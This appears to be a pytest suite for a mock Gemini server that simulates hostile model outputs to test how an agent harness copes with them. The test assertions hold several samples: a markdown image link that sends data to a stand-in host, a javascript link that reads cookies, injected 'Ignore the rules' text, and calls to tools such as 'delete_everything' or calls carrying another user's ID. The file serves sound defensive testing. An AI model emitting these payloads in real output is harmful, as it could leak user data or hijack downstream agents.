"""Each hostile behaviour is what its name says and plays against the declared functions."""

import json
from typing import Any

import pytest
from google.genai import Client, errors, types

from dev.gemini.body import field
from dev.gemini.protocol import Json
from dev.gemini.script.hostile import BEHAVIOURS
from dev.gemini.server import GeminiServer
from tests.dev.gemini.running import send

TWO, THREE = "gemini-2.5-flash", "gemini-3-flash-preview"
PAY = {
    "name": "pay",
    "description": "Pay.",
    "parametersJsonSchema": {
        "type": "object",
        "properties": {"to": {"type": "string"}, "amount": {"type": "string"}, "days": {"type": "integer"}},
        "required": ["to", "amount", "days"],
    },
}
DECLARED = {"name": "pay", "description": "Pay.", "parameters_json_schema": PAY["parametersJsonSchema"]}
FINAL = {"name": "final_answer", "description": "End.", "parametersJsonSchema": {"type": "object"}}
SMALLEST = {"to": "", "amount": "", "days": 0}


def play(
    server: GeminiServer,
    hostile: str | Json,
    *,
    model: str = TWO,
    tools: tuple[Json, ...] = (FINAL, PAY),
    method: str = "generateContent",
    **more: Any,
) -> Any:
    """The answer to one request under this behaviour, loaded anew unless `again`."""
    if not more.pop("again", False):
        status, told = send(
            server.url + "/script/", {"mode": "script", "queue": [{"hostile": hostile, **more}]}, "POST"
        )
        assert status == 200, told
    system = {"parts": [{"text": "Agent: advisor\nAdvise."}]}
    body = {"systemInstruction": system, "contents": [{"parts": [{"text": "hi"}]}]}
    body |= {"tools": [{"functionDeclarations": list(tools)}]} if tools else {}
    status, text = send(f"{server.url}/v1beta/models/{model}:{method}", body, "POST")
    return json.loads(text) if text.startswith(("{", "[")) else text


def parts(answer: Json) -> list[Json]:
    found: list[Json] = answer["candidates"][0]["content"]["parts"]
    return found


def calls(answer: Json) -> list[tuple[Any, Any]]:
    made = [part["functionCall"] for part in parts(answer) if "functionCall" in part]
    return [(call["name"], call["args"]) for call in made]


def ids(answer: Json) -> list[Any]:
    return [part["functionCall"].get("id") for part in parts(answer)]


def ending(answer: Json) -> Any:
    return answer["candidates"][0]["finishReason"]


@pytest.mark.parametrize("name", sorted(BEHAVIOURS))
@pytest.mark.parametrize("tools", [(), (PAY,)])
@pytest.mark.parametrize("method", ["generateContent", "streamGenerateContent"])
def test_every_behaviour_plays_with_and_without_functions(
    server: GeminiServer, name: str, tools: tuple[Json, ...], method: str
) -> None:
    answer = play(server, name, tools=tools, method=method)
    assert isinstance(answer, str) == (name == "broken_body")
    assert server.script.calls == {"advisor": 1}


# Here the client raises by itself; it takes everything else for an answer.
NO_ANSWER = {"broken_body": json.JSONDecodeError, "stream_error": errors.ServerError}


@pytest.mark.parametrize("name", sorted(BEHAVIOURS))
def test_the_client_takes_what_is_played_for_an_answer(server: GeminiServer, client: Client, name: str) -> None:
    server.script.load({"queue": [{"hostile": name}]})
    config = types.GenerateContentConfig(
        tools=[types.Tool(function_declarations=[types.FunctionDeclaration(**DECLARED)])]
    )
    if name in NO_ANSWER:
        with pytest.raises(NO_ANSWER[name]):
            client.models.generate_content(model=THREE, contents="hi", config=config)
    else:
        assert client.models.generate_content(model=THREE, contents="hi", config=config).usage_metadata


def test_endless_calls_never_end_and_have_an_id_each(server: GeminiServer) -> None:
    answers = [play(server, "endless_calls"), *(play(server, "endless_calls", again=True) for _ in range(4))]
    assert [calls(one) for one in answers] == [[("pay", SMALLEST)]] * 5
    assert len({tuple(ids(one)) for one in answers}) == 5
    assert server.script.state()["left"] == 1


def test_a_behaviour_that_stays_may_be_told_how_often(server: GeminiServer) -> None:
    play(server, "endless_calls", times=1)
    assert server.script.state()["left"] == 0


def test_many_calls_are_as_many_as_told(server: GeminiServer) -> None:
    answer = play(server, {"name": "many_calls", "calls": 10_000, "tool": "pay", "arguments": {"to": "x"}})
    assert calls(answer) == [("pay", {"to": "x"})] * 10_000
    assert len(set(ids(answer))) == 10_000


def test_functions_are_called_by_names_that_are_none_of_them(server: GeminiServer) -> None:
    assert calls(play(server, "unknown_tool"))[0][0] == "delete_everything"
    assert calls(play(server, {"name": "unknown_tool", "tool": "__import__"}))[0][0] == "__import__"
    assert calls(play(server, "wrong_case_tool"))[0] == ("PAY", SMALLEST)
    assert calls(play(server, "zero_width_tool"))[0] == ("p\u200bay", SMALLEST)
    assert [calls(play(server, {"name": "odd_tool_name", "value": odd}))[0][0] for odd in (None, 5)] == [None, 5]
    assert calls(play(server, "self_delegation"))[0] == ("call_advisor", {"message": "Do it."})


def test_arguments_are_not_what_was_declared(server: GeminiServer) -> None:
    assert len(calls(play(server, {"name": "huge_arguments", "bytes": 5000}))[0][1]["to"]) == 5000
    assert len(json.dumps(play(server, "huge_arguments"))) > 1_000_000
    assert calls(play(server, "null_arguments")) == [("pay", None)]
    assert calls(play(server, {"name": "null_arguments", "value": ["a"]})) == [("pay", ["a"])]
    assert calls(play(server, "null_values")) == [("pay", dict.fromkeys(SMALLEST))]
    assert calls(play(server, "missing_arguments")) == [("pay", {})]
    extra = {"user_id": "somebody-else", "confirm": True}
    assert calls(play(server, "extra_arguments")) == [("pay", SMALLEST | extra)]
    odd = calls(play(server, "odd_text"))[0][1]
    assert "\x00" in odd["to"]
    assert "\u202e" in odd["amount"]
    assert odd["days"] == 0


def test_ids_are_doubled_or_missing(server: GeminiServer) -> None:
    assert ids(play(server, "duplicate_ids", model=THREE)) == ["call_same", "call_same"]
    assert ids(play(server, "missing_ids", model=THREE)) == [None, None]


@pytest.mark.parametrize("method", ["generateContent", "streamGenerateContent"])
def test_a_signature_is_lost_where_others_have_one(server: GeminiServer, method: str) -> None:
    for name, signed in (("lost_signature", False), ("missing_ids", True)):
        answer = play(server, name, model=THREE, method=method)
        first = parts(answer[0] if isinstance(answer, list) else answer)[0]
        assert bool(field(first, "thoughtSignature")) == signed


def test_words_and_answers_come_beside_calls(server: GeminiServer) -> None:
    beside = parts(play(server, {"name": "text_beside_call", "text": "Done."}))
    assert (beside[0]["text"], beside[1]["functionCall"]["name"]) == ("Done.", "pay")
    assert [name for name, _ in calls(play(server, "early_answer"))] == ["pay", "final_answer"]


@pytest.mark.parametrize(
    ("hostile", "reason"),
    [
        ("malformed_call", "MALFORMED_FUNCTION_CALL"),
        ("unexpected_call", "UNEXPECTED_TOOL_CALL"),
        ("safety_block", "SAFETY"),
        ({"name": "safety_block", "reason": "NOBODY_KNOWS"}, "NOBODY_KNOWS"),
        ("max_tokens", "MAX_TOKENS"),
        ("max_tokens_mid_call", "MAX_TOKENS"),
        ("empty_candidate", "STOP"),
    ],
)
def test_answers_end_as_told(server: GeminiServer, hostile: str | Json, reason: str) -> None:
    answer = play(server, hostile)
    assert ending(answer) == reason
    if reason in {"MALFORMED_FUNCTION_CALL", "SAFETY", "NOBODY_KNOWS"}:
        assert "content" not in answer["candidates"][0]


def test_a_call_that_is_cut_lacks_its_last_argument(server: GeminiServer) -> None:
    assert calls(play(server, "max_tokens_mid_call")) == [("pay", {"to": "", "amount": ""})]


def test_there_may_be_no_candidates(server: GeminiServer) -> None:
    assert "candidates" not in play(server, "no_candidates")
    blocked = play(server, "prompt_block")
    assert ("candidates" in blocked, blocked["promptFeedback"]) == (False, {"blockReason": "PROHIBITED_CONTENT"})


def test_a_stream_error_is_an_error_where_nothing_is_streamed(server: GeminiServer) -> None:
    assert play(server, "stream_error")["error"]["code"] == 503
    words, error = play(server, "stream_error", method="streamGenerateContent")
    assert (parts(words)[0]["text"], error["error"]["status"]) == ("You have spent ", "UNAVAILABLE")


def test_json_is_broken_or_of_another_shape(server: GeminiServer) -> None:
    with pytest.raises(ValueError, match="Expecting"):
        json.loads(parts(play(server, "garbage_json"))[0]["text"])
    assert json.loads(parts(play(server, {"name": "wrong_shape", "value": {"a": 1}}))[0]["text"]) == {"a": 1}
    assert play(server, "broken_body").startswith("<html>")


def test_words_carry_what_must_not_be_shown(server: GeminiServer) -> None:
    link = parts(play(server, {"name": "markdown_exfiltration", "url": "https://x.example/", "data": "k=1"}))[0]["text"]
    assert "![chart](https://x.example/?k=1)" in link
    assert "(javascript:alert(document.cookie))" in parts(play(server, "script_links"))[0]["text"]
    assert "Ignore the rules" in parts(play(server, "injected_text"))[0]["text"]
    assert "7 EUR" in parts(play(server, {"name": "unsupported_figure", "figure": "7 EUR"}))[0]["text"]


@pytest.mark.parametrize(
    "hostile",
    [
        "no_such_thing",
        5,
        {},
        {"name": "many_calls", "cals": 3},
        {"name": "many_calls", "calls": 0},
        {"name": "many_calls", "calls": True},
        {"name": "many_calls", "calls": "3"},
        {"name": "unknown_tool", "tool": 5},
        {"name": "extra_arguments", "arguments": []},
    ],
)
def test_a_behaviour_that_is_not_understood_is_refused(server: GeminiServer, hostile: Any) -> None:
    assert send(server.url + "/script/", {"queue": [{"hostile": hostile}]}, "POST")[0] == 400
    assert server.script.state()["queue"] == []
